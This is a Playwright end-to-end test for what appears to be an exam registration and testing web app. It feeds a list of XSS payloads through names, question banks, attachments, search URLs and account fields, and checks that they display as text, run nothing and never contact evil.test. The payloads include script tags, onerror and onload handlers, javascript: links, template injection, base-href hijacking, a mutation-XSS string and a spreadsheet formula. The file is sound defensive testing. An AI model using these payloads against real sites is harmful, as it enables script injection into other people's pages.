// Whatever people type and banks bring is text: nothing of it runs, loads or closes a tag, in any page that shows it, under the policy
// that the pages really have.
import type { Page } from "@playwright/test";
import { changedBank } from "../support/bank";
import { Candidate } from "../support/candidate";
import { expect, test } from "../support/journey";
import { bin, iin } from "../support/numbers";
import { Registrar } from "../support/registrar";

/** Each would set `window.ran`, or load something from elsewhere, if any of it were taken for markup. */
const hostile = [
  `<script>window.ran=1</script>`,
  `"><img src=x onerror="window.ran=2">`,
  `'><svg/onload=window.ran=3>`,
  `</title></textarea><script src=//evil.test/x.js></script>`,
  `<iframe srcdoc="<script>parent.ran=4</script>">`,
  `<a href="javascript:window.ran=5">x</a>`,
  `{{constructor.constructor('window.ran=6')()}} \${window.ran=7}`,
  `<style>@import '//evil.test/x.css'</style><base href=//evil.test>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=8>`,
  `=HYPERLINK("//evil.test")&amp;<b>b</b><!--`,
];
const activity = "stm-development-production";

test("hostile names, reasons and questions are shown as they were written, and nothing of them runs", async ({ another, synaq }) => {
  test.setTimeout(180_000);
  let n = 0;
  const bank = changedBank("stm", synaq.folder, (file, text) =>
    file.endsWith(".toml") ? text : text.replace(/^(\s*(?:[+-] )?(?:kk|ru): )(.*)$/gm, (_, mark: string, said: string) => `${mark}${said} ${hostile[(n++ >> 1) % hostile.length]}`),
  );
  await synaq.command("bank", "import", bank);
  const applicant = `«${hostile[1]}» ЖШС ${hostile[3]}`;
  const name = `${hostile[0]} ${hostile[2]}`;
  const person = { file: `KZ-<b>${hostile[5]}`, iin: iin(88), name };

  const registrar = new Registrar(await watched(await another()), synaq);
  await registrar.signIn();
  await registrar.openFile({ number: person.file, bin: bin(8), applicant, activity });
  await expect(registrar.page.getByText(applicant)).toBeVisible();
  await registrar.declare(person);
  const file = registrar.page.url();
  await registrar.attach(hostile[7], { name: hostile[1], mimeType: "text/html", buffer: Buffer.from(`%PDF-1.7\n${hostile[0]}\n%%EOF`) });
  await expect(registrar.page.getByRole("link", { name: hostile[7] })).toBeVisible();
  await expect(registrar.page.getByRole("heading", { name })).toBeVisible();
  await registrar.bookSitting(hostile[4]);
  await registrar.enrol(person.file, person.iin, hostile[4]);
  await registrar.openSitting();
  const sitting = registrar.page.url();
  const code = await registrar.printSlip(person.iin);

  const candidate = new Candidate(await watched(await another()), { ...person, activity, code });
  await candidate.signIn();
  await registrar.page.reload();
  await registrar.admit(person.iin);
  await candidate.page.reload();
  await candidate.start();
  const paper = await candidate.paper();
  const shown = paper.map((asked) => [asked.stem, ...asked.options].join(" ")).join(" ");
  for (const text of hostile.filter((text) => !/[{}*_\`\\$]|&amp;/.test(text))) {
    expect(shown, "as it was written").toContain(text);
  }
  await candidate.review();
  await candidate.submit();

  await registrar.page.goto(`/staff/files?q=${encodeURIComponent(hostile[0])}&activity=${encodeURIComponent(hostile[1])}`);
  await expect(registrar.page.locator("#q")).toHaveValue(hostile[0]);
  await registrar.page.goto(file);
  await registrar.page.locator('a[href^="/staff/results/"]').click();
  await expect(registrar.page.getByRole("heading", { level: 1 })).toContainText(name);
  const result = registrar.page.url();
  const invigilator = new Registrar(await watched(await another()), synaq);
  await invigilator.signIn("invigilator");
  await invigilator.page.goto(result);
  await invigilator.propose("propose-annul", hostile.slice(0, 4).join(" "));
  await expect(invigilator.page.getByText(hostile[3])).toBeVisible();
  const administrator = new Registrar(await watched(await another()), synaq);
  await administrator.signIn("administrator");
  await administrator.page.goto("/staff/accounts/new");
  await administrator.page.locator("#name").fill(hostile[8]);
  await administrator.page.locator("#login").fill("hostile");
  await administrator.typesPassword();
  await administrator.page.locator("#confirm").press("Enter");
  await expect(administrator.page.getByText(hostile[8])).toBeVisible();
  await administrator.page.goto("/staff/accounts");
  await expect(administrator.page.getByText(hostile[8])).toBeVisible();
  for (const address of [sitting, result, file]) {
    await registrar.page.goto(address);
    await nothingRan(registrar.page);
  }
  const auditor = new Registrar(await watched(await another()), synaq);
  await auditor.signIn("auditor");
  await auditor.page.goto(`/staff/log?object=${encodeURIComponent(hostile[2])}&person=${encodeURIComponent(hostile[1])}`);
  await expect(auditor.page.locator("#object")).toHaveValue(hostile[2]);
  await auditor.page.goto("/staff/log");
  await expect(auditor.page.getByText(name).first()).toBeVisible();
  for (const page of [candidate.page, invigilator.page, administrator.page, auditor.page]) await nothingRan(page);
});

/** Notes what a page does that it shouldn't: asks, loads from elsewhere, is stopped by its policy. */
async function watched(page: Page): Promise<Page> {
  page.on("dialog", (dialog) => {
    throw new Error(`a page asks: ${dialog.message()}`);
  });
  page.on("request", (request) => expect(request.url()).not.toContain("evil.test"));
  await page.addInitScript(() => {
    const stopped: string[] = [];
    Object.assign(window, { stopped });
    document.addEventListener("securitypolicyviolation", (event) => stopped.push(`${event.violatedDirective} ${event.blockedURI}`));
  });
  return page;
}

async function nothingRan(page: Page) {
  const seen = await page.evaluate(() => {
    const { ran, stopped } = window as unknown as { ran?: number; stopped: string[] };
    const foreign = document.querySelectorAll("main script, main iframe, main img, main style, main base, main math mtext, [onload], [onerror]");
    return { ran, stopped, foreign: foreign.length };
  });
  expect(seen).toEqual({ ran: undefined, stopped: [], foreign: 0 });
}
